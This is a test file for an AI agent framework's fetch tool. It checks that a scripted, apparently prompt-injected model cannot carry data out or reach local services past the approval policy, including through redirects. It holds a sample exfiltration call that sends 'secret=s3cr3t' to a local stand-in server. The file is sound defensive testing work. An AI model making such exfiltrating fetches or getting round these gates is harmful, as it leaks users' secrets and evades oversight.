/**
 * fetch from the attacker's side: a scripted (prompt-injected) model calls fetch to carry data out or to
 * reach a local service, through the real loop, gate and fetch tool. Two servers on 127.0.0.1 count the
 * requests they see: a refused fetch must leave them untouched.
 */
import { afterAll, afterEach, describe, expect, test } from "bun:test";
import type { ToolsFor } from "../../../src/agents/types.ts";
import { flagApprover, type OnAsk } from "../../../src/policy/approvers.ts";
import { buildRuleSet } from "../../../src/policy/rules.ts";
import { fetchOriginsAllowedByRules, sessionToolsFor } from "../../../src/sdk/session-tools.ts";
import { createFetchTool } from "../../../src/tools/fetch/fetch.ts";
import { createPrimitives, toolDefinitionsFor } from "../../../src/tools/registry.ts";
import { type Harness, harness, spec, toolResultsIn } from "../../agents/harness.ts";

function countingServer(routes: () => Record<string, string>) {
  const seen: string[] = [];
  const server = Bun.serve({
    hostname: "127.0.0.1",
    port: 0,
    fetch(request: Request): Response {
      const path = new URL(request.url).pathname;
      seen.push(path);
      const to = routes()[path];
      return to ? new Response(null, { status: 302, headers: { location: to } }) : new Response(`ok ${path}`);
    },
  });
  return { server, seen, origin: `http://127.0.0.1:${server.port}` };
}

const b = countingServer(() => ({}));
const a = countingServer(() => ({
  "/to-b-private": `${b.origin}/private/x`,
  "/to-b-public": `${b.origin}/public/x`,
  "/to-b-root": `${b.origin}/`,
}));

afterAll(() => {
  a.server.stop(true);
  b.server.stop(true);
});

let h: Harness | undefined;
afterEach(async () => {
  await h?.cleanup();
  h = undefined;
  a.seen.length = 0;
  b.seen.length = 0;
});

/** The model calls fetch once; `toolsFor` decides how the fetch tool is built. */
async function modelFetches(url: string, onAsk: OnAsk, allow: string[], toolsFor: ToolsFor) {
  h = await harness({
    specs: [spec("root", ["fetch"])],
    approver: flagApprover(onAsk),
    allow,
    script: { queue: [{ toolCalls: [{ name: "fetch", arguments: { url } }] }, { text: "done" }] },
  });
  await h.run("read the docs", { toolsFor });
  const [result] = toolResultsIn(h, 1);
  if (!result) throw new Error("no tool result");
  return result;
}

/** fetch as `agent run` builds it: the guard lifted only for origins the allow rules name. */
const fromRules = (allow: string[]) => sessionToolsFor(buildRuleSet({ flags: { allow } }));

describe("fetch asks by default", () => {
  test("under default settings an injected fetch is not sent, and the model is told", async () => {
    // Stands in for a public host: the guard is lifted for this server, so only the policy decides.
    const primitives = createPrimitives({ fetch: { allowPrivateOrigins: [a.origin] } });
    const publicLike: ToolsFor = (names, provider) => toolDefinitionsFor(names, provider, primitives);
    const result = await modelFetches(`${a.origin}/collect?secret=s3cr3t`, "deny", [], publicLike);
    expect(result.isError).toBe(true);
    expect(result.content).toContain("Why: it needs approval");
    expect(a.seen).toEqual([]);
  });
});

describe("an allow rule for a local origin names its port", () => {
  test("another port on the same host stays refused, even with --on-ask allow", async () => {
    const allow = [`fetch:${a.origin}/*`];
    const result = await modelFetches(`${b.origin}/`, "allow", allow, fromRules(allow));
    expect(result.isError).toBe(true);
    expect(result.content).toContain("refusing to fetch 127.0.0.1");
    expect(b.seen).toEqual([]);
  });

  test("a redirect from the allowed port to another port is refused at that hop", async () => {
    const allow = [`fetch:${a.origin}/*`];
    const result = await modelFetches(`${a.origin}/to-b-root`, "allow", allow, fromRules(allow));
    expect(result.isError).toBe(true);
    expect(a.seen).toEqual(["/to-b-root"]);
    expect(b.seen).toEqual([]);
  });

  test("the allowed origin itself is fetched", async () => {
    const allow = [`fetch:${a.origin}/*`];
    const result = await modelFetches(`${a.origin}/docs`, "deny", allow, fromRules(allow));
    expect(result.content).toContain("ok /docs");
    expect(a.seen).toEqual(["/docs"]);
  });

  test("rules name origins: scheme, host and port", () => {
    const rules = buildRuleSet({
      defaults: false,
      flags: { allow: ["fetch:http://localhost:8080/*", "fetch:http://localhost:*", "fetch:https://h.test"] },
    });
    expect(fetchOriginsAllowedByRules(rules)).toEqual(["http://localhost:8080", "https://h.test"]);
  });
});

describe("each redirect is put to the policy like a fetch of its own", () => {
  const allow = [`fetch:${a.origin}/*`, `fetch:${b.origin}/public/*`];

  test("a redirect to a URL no rule allows is not followed under --on-ask deny", async () => {
    const result = await modelFetches(`${a.origin}/to-b-private`, "deny", allow, fromRules(allow));
    expect(result.isError).toBe(true);
    expect(result.content).toContain("was not followed");
    expect(b.seen).toEqual([]);
    // The refused hop is listed with the run's denials, with the rule that would allow it.
    const [denial] = h?.events.findLast((e) => e.kind === "session_end")?.data.activity?.denials ?? [];
    expect(denial).toMatchObject({
      tool: "fetch",
      target: `${b.origin}/private/x`,
      decidedBy: "on_ask",
      suggestedAllow: [`fetch:${b.origin}/private/x`],
    });
  });

  test("a redirect to a URL a rule allows is followed", async () => {
    const result = await modelFetches(`${a.origin}/to-b-public`, "deny", allow, fromRules(allow));
    expect(result.content).toContain("ok /public/x");
    expect(b.seen).toEqual(["/public/x"]);
  });

  test("with --on-ask fail, a redirect that needs approval ends the run with approval_needed", async () => {
    h = await harness({
      specs: [spec("root", ["fetch"])],
      approver: flagApprover("fail"),
      allow,
      script: {
        queue: [
          { toolCalls: [{ name: "fetch", arguments: { url: `${a.origin}/to-b-private` } }] },
          { text: "done" },
        ],
      },
    });
    const result = await h.run("read the docs", { toolsFor: fromRules(allow) });
    expect(result.finishReason).toBe("approval_needed");
    expect(b.seen).toEqual([]);
  });

  test("without a policy to ask, only redirects within the first origin are followed", async () => {
    const tool = createFetchTool({ allowPrivateOrigins: [a.origin, b.origin], timeoutMs: 5_000 });
    h = await harness({ specs: [spec("root", [])], script: { queue: [] } });
    const out = await tool.run(
      { url: `${a.origin}/to-b-public` },
      { workspace: h.workspace, signal: AbortSignal.timeout(10_000) },
    );
    expect(out.modelText).toContain("another origin");
    expect(b.seen).toEqual([]);
  });
});
